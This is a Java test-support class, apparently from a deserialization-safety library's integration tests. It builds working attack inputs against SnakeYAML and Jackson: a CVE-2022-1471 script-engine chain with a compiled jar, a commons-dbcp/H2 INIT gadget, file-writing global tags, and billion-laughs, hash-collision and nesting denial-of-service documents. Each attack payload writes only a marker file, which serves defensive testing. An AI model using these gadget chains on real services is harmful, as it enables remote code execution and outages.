package dev.safeload.it.support;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.jsontype.impl.LaissezFaireSubTypeValidator;
import dev.safeload.it.victim.DocumentVictim;
import dev.safeload.it.victim.docs.LineItem;
import dev.safeload.it.victim.docs.Order;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import javax.tools.JavaCompiler;
import javax.tools.ToolProvider;

/**
 * YAML and JSON documents as an attacker writes them against SnakeYAML 1.33 and Jackson with
 * polymorphic typing on, and the benign documents a service reads. Each attack leaves a
 * marker file when it runs.
 */
public final class DocumentPayloads {

    /** The marker the script engine factory in {@link #scriptEngineJar} writes in the JVM's working directory. */
    public static final String SCRIPT_ENGINE_MARKER = "pwned-script-engine";

    private DocumentPayloads() {
    }

    /** A global tag that calls {@code new FileOutputStream(marker)}, which creates the file. */
    public static String yamlFileWrite(Path marker) {
        return "!!java.io.FileOutputStream [\"" + marker + "\"]\n";
    }

    /** The same, as one value deep in an otherwise plain config map. */
    public static String yamlNestedFileWrite(Path marker) {
        return "service: scorer\nlogging:\n  level: info\n  sink: !!java.io.FileOutputStream [\"" + marker + "\"]\n";
    }

    /** CVE-2022-1471: {@code ScriptEngineManager} over a {@code URLClassLoader} runs the jar's engine factory. */
    public static String yamlScriptEngine(Path jar) {
        return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"" + jar.toUri()
                + "\"]]]]\n";
    }

    /** A plain config: maps, lists and scalars only, no tags. */
    public static String yamlPlainConfig() {
        return "name: scorer\nreplicas: 3\nlabels: {team: ml, tier: gold}\nendpoints:\n"
                + "  - {path: /predict, port: 8080}\n  - {path: /health, port: 8081}\n";
    }

    /**
     * A YAML hash bomb inside SnakeYAML's own limits: level i is a sequence holding level i-1
     * (anchored inline) and an alias to level i-2's anchor, so {@code levels} aliases and
     * {@code levels} nesting make a key whose {@code hashCode} visits 2^levels lists.
     */
    public static String yamlHashBomb(int levels) {
        String level = "&a0 [x]";
        for (int i = 1; i <= levels; i++) {
            level = "&a" + i + " [" + level + ", *a" + (i - 1) + "]";
        }
        return "? " + level + "\n: value\n";
    }

    /**
     * Billion laughs: {@code levels} sequences of {@code width} aliases each to the one before,
     * width^levels strings once walked ({@code toString}); {@code (levels - 1) * width} aliases,
     * past SnakeYAML's default of 50.
     */
    public static String yamlBillionLaughs(int levels, int width) {
        StringBuilder doc = new StringBuilder("l0: &l0 [");
        doc.append(String.join(", ", java.util.Collections.nCopies(width, "lol"))).append("]\n");
        for (int i = 1; i < levels; i++) {
            doc.append('l').append(i).append(": &l").append(i).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(width, "*l" + (i - 1)))).append("]\n");
        }
        return doc.toString();
    }

    /**
     * A flow mapping whose {@code count} keys are two-item sequences {@code [x, 12345 - 31x]}: one
     * hash code, and lists are unordered to a {@code HashMap}'s tree bins, so each insertion walks
     * past every earlier key. No alias, no tag: inside every limit of SnakeYAML's {@code LoaderOptions}.
     */
    public static String yamlKeysWithOneHashCode(int count) {
        StringBuilder yaml = new StringBuilder("{");
        for (int x = 0; x < count; x++) {
            yaml.append(x == 0 ? "" : ", ").append('[').append(x).append(", ").append(12345 - 31 * x).append("]: 0");
        }
        return yaml.append("}\n").toString();
    }

    /**
     * Default typing's form of a {@code HashSet} of {@code count} typed lists {@code [x, 12345 -
     * 31x]}, which share one hash code: each {@code add} walks past every list before it.
     */
    public static String jacksonKeysWithOneHashCode(int count) {
        StringBuilder json = new StringBuilder("[\"java.util.HashSet\",[");
        for (int x = 0; x < count; x++) {
            json.append(x == 0 ? "" : ",").append("[\"java.util.ArrayList\",[").append(x).append(',')
                    .append(12345 - 31 * x).append("]]");
        }
        return json.append("]]").toString();
    }

    /** {@code depth} nested flow sequences around one scalar. */
    public static String yamlNested(int depth) {
        return "[".repeat(depth) + "x" + "]".repeat(depth) + "\n";
    }

    /**
     * A large benign config: {@code services} entries of a few fields each, and two of them
     * sharing a {@code defaults} mapping through merge keys ({@code <<: *defaults}) as real
     * configs do (SnakeYAML 1.33 allows 50 such aliases per document).
     */
    public static String yamlLargeConfig(int services) {
        StringBuilder doc = new StringBuilder("defaults: &defaults {timeout: 30, retries: 3, tier: gold}\n"
                + "canary: {<<: *defaults, port: 7000}\nshadow: {<<: *defaults, port: 7001}\nservices:\n");
        for (int i = 0; i < services; i++) {
            doc.append("  svc").append(i).append(": {port: ").append(8000 + i % 1000)
                    .append(", path: /predict/").append(i).append(", labels: [ml, scorer]}\n");
        }
        return doc.toString();
    }

    /** The same config, tagged with the service's own class. */
    public static String yamlTaggedConfig() {
        return "!!dev.safeload.it.victim.docs.ServiceConfig\n" + yamlPlainConfig();
    }

    /**
     * A jar whose {@code META-INF/services/javax.script.ScriptEngineFactory} names a factory
     * that writes {@link #SCRIPT_ENGINE_MARKER} in the working directory when its class
     * initialises. Compiled here, so the class is on no class path but the jar's.
     */
    public static Path scriptEngineJar(Path dir) throws IOException {
        Path src = dir.resolve("engine-src/pwn/Engine.java");
        Files.createDirectories(src.getParent());
        StringBuilder methods = new StringBuilder();
        for (String m : new String[] {"getEngineName", "getEngineVersion", "getLanguageName", "getLanguageVersion"}) {
            methods.append("public String ").append(m).append("() { return \"pwn\"; }\n");
        }
        Files.writeString(src, "package pwn;\n"
                + "public class Engine implements javax.script.ScriptEngineFactory {\n"
                + "static { try { java.nio.file.Files.writeString(java.nio.file.Path.of(System.getProperty(\"user.dir\"), \""
                + SCRIPT_ENGINE_MARKER + "\"), \"ran\"); } catch (Exception e) { throw new RuntimeException(e); } }\n"
                + methods
                + "public java.util.List<String> getExtensions() { return java.util.List.of(); }\n"
                + "public java.util.List<String> getMimeTypes() { return java.util.List.of(); }\n"
                + "public java.util.List<String> getNames() { return java.util.List.of(\"pwn\"); }\n"
                + "public Object getParameter(String key) { return null; }\n"
                + "public String getMethodCallSyntax(String o, String m, String... a) { return \"\"; }\n"
                + "public String getOutputStatement(String s) { return \"\"; }\n"
                + "public String getProgram(String... s) { return \"\"; }\n"
                + "public javax.script.ScriptEngine getScriptEngine() { return null; }\n"
                + "}\n");
        Path classes = dir.resolve("engine-classes");
        Files.createDirectories(classes);
        JavaCompiler javac = ToolProvider.getSystemJavaCompiler();
        int rc = javac.run(null, null, null, "--release", "17", "-d", classes.toString(), src.toString());
        if (rc != 0) {
            throw new IOException("javac failed on " + src);
        }
        Path jar = dir.resolve("engine.jar");
        try (JarOutputStream out = new JarOutputStream(Files.newOutputStream(jar))) {
            out.putNextEntry(new JarEntry("pwn/Engine.class"));
            out.write(Files.readAllBytes(classes.resolve("pwn/Engine.class")));
            out.putNextEntry(new JarEntry("META-INF/services/javax.script.ScriptEngineFactory"));
            out.write("pwn.Engine\n".getBytes(StandardCharsets.UTF_8));
        }
        return jar;
    }

    /** An H2 URL whose {@code INIT} script writes {@code marker} when a connection opens. */
    private static String h2InitUrl(Path marker) {
        return "jdbc:h2:mem:safeload;INIT=CALL CSVWRITE('" + marker + "','SELECT 1')";
    }

    /** commons-dbcp 1.x {@code BasicDataSource}'s properties: {@code setLogWriter} opens the pool, so a connection. */
    private static String dbcpProperties(Path marker) {
        return "\"driverClassName\":\"org.h2.Driver\",\"url\":\"" + h2InitUrl(marker) + "\",\"logWriter\":null";
    }

    /** For default typing (array wrapper, {@code readValue(json, Object.class)}). */
    public static String jacksonDbcpDefaultTyping(Path marker) {
        return "[\"org.apache.commons.dbcp.BasicDataSource\",{" + dbcpProperties(marker) + "}]";
    }

    /** For a field with {@code @JsonTypeInfo(use = CLASS)}: the {@code @class} property. */
    public static String jacksonDbcpClassProperty(Path marker) {
        return "{\"payload\":{\"@class\":\"org.apache.commons.dbcp.BasicDataSource\"," + dbcpProperties(marker) + "}}";
    }

    /** For a field with {@code @JsonTypeInfo(use = MINIMAL_CLASS)}: a full name in {@code @c} is taken as it is. */
    public static String jacksonDbcpMinimalClass(Path marker) {
        return "{\"payload\":{\"@c\":\"org.apache.commons.dbcp.BasicDataSource\"," + dbcpProperties(marker) + "}}";
    }

    /** For a {@code MINIMAL_CLASS} field typed {@code BasicDataSource}: the id relative to its package. */
    public static String jacksonDbcpMinimalRelative(Path marker) {
        return "{\"payload\":{\"@c\":\".BasicDataSource\"," + dbcpProperties(marker) + "}}";
    }

    /** An order as a peer with the same default-typing mapper writes it. */
    /**
     * {@code levels} typed {@code ArrayList}s, each the only element of the one around it, as
     * default typing writes them ({@code ["java.util.ArrayList", [...]]}: two JSON levels per list).
     */
    public static String jacksonNestedLists(int levels) {
        return "[\"java.util.ArrayList\",[".repeat(levels) + "\"leaf\"" + "]]".repeat(levels);
    }

    public static String jacksonOrderDefaultTyping() throws IOException {
        ObjectMapper mapper = new ObjectMapper();
        mapper.activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);
        return mapper.writeValueAsString(order());
    }

    /** An order in the {@code @JsonTypeInfo(use = CLASS)} field. */
    public static String jacksonOrderClassProperty() throws IOException {
        DocumentVictim.Envelope envelope = new DocumentVictim.Envelope();
        envelope.payload = order();
        return new ObjectMapper().writeValueAsString(envelope);
    }

    private static Order order() {
        Order order = new Order();
        order.id = "A-17";
        order.items = new ArrayList<>(List.of(item("X-1", 2, "9.50"), item("Y-2", 1, "120.00")));
        order.metadata = new LinkedHashMap<>();
        order.metadata.put("channel", "web");
        order.metadata.put("tags", new ArrayList<>(List.of("gift", "express")));
        return order;
    }

    private static LineItem item(String sku, int quantity, String price) {
        LineItem item = new LineItem();
        item.sku = sku;
        item.quantity = quantity;
        item.price = new BigDecimal(price);
        return item;
    }

    /** Writes {@code text} to {@code name} in {@code dir}. */
    public static Path write(Path dir, String name, String text) throws IOException {
        Path file = dir.resolve(name);
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return file;
    }
}
